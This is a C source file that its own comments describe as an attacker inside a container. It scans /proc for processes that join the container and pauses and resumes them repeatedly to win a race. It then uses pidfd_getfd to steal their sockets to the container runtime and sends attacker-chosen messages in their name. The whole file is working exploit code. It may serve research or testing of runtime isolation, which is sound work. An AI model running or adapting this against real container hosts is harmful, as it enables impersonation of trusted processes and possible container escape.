/* An attacker inside a container: takes the socket of a process that joins, by which that speaks with the runtime, and
 * speaks in its name.
 *
 *     thief LIE               until a file /stop is there. A line for each theft: "stole PID".
 *
 * It needs no right to trace what is no more powerful than itself: as soon as what joins has no more capabilities, it is
 * let go on for a moment and stopped again, over and over, so that none of its states is too short to be met.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { TRIES = 200000, NUMBERS = 64 };
static char ours[32];

static int permitted(int pid, char *found) {
    char way[64], text[4096], *at;
    snprintf(way, sizeof way, "/proc/%d/status", pid);
    int fd = open(way, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    text[length > 0 ? length : 0] = 0;
    if (!(at = strstr(text, "CapPrm:")))
        return -1;
    snprintf(found, 32, "%.24s", at);
    return 0;
}

static int runs_program(int pid) { /* busybox: it is over */
    char way[64], exe[256];
    snprintf(way, sizeof way, "/proc/%d/exe", pid);
    ssize_t length = readlink(way, exe, sizeof exe - 1);
    exe[length > 0 ? length : 0] = 0;
    return strstr(exe, "busybox") != NULL;
}

static void tell(int sock, const char *lie) {
    int give = 0;
    char space[CMSG_SPACE(sizeof give)] = {0};
    struct iovec part = {(void *)lie, strlen(lie)};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(sizeof give);
    memcpy(CMSG_DATA(head), &give, sizeof give);
    sendmsg(sock, &message, MSG_NOSIGNAL);
}

static int steal(int pid, int pidfd, const char *lie) {
    int found = 0;
    for (int number = 3; number < NUMBERS; number++) {
        int type, sock = syscall(SYS_pidfd_getfd, pidfd, number, 0);
        socklen_t size = sizeof type;
        if (sock < 0)
            continue;
        if (!getsockopt(sock, SOL_SOCKET, SO_TYPE, &type, &size) && type == SOCK_SEQPACKET) {
            tell(sock, lie);
            found = 1;
        }
        close(sock);
    }
    if (found)
        printf("stole %d\n", pid);
    return found;
}

static void rob(int pid, const char *lie) {
    char theirs[32] = "";
    int pidfd = syscall(SYS_pidfd_open, pid, 0), done = 0;
    if (pidfd < 0)
        return;
    while (!done && !permitted(pid, theirs) && strcmp(ours, theirs))
        done = steal(pid, pidfd, lie);
    for (int i = 0; i < TRIES && !done && !kill(pid, SIGSTOP); i++) {
        done = steal(pid, pidfd, lie) || runs_program(pid);
        kill(pid, SIGCONT);
    }
    kill(pid, SIGCONT);
    close(pidfd);
}

int main(int argc, char **argv) {
    int last = getpid();
    if (argc < 2 || permitted(last, ours))
        return 125;
    while (access("/stop", F_OK)) {
        DIR *all = opendir("/proc");
        struct dirent *entry;
        while (all && (entry = readdir(all))) {
            int pid = atoi(entry->d_name);
            if (pid > last) {
                last = pid;
                rob(pid, argv[1]);
            }
        }
        closedir(all);
    }
    fflush(stdout);
    return 0;
}
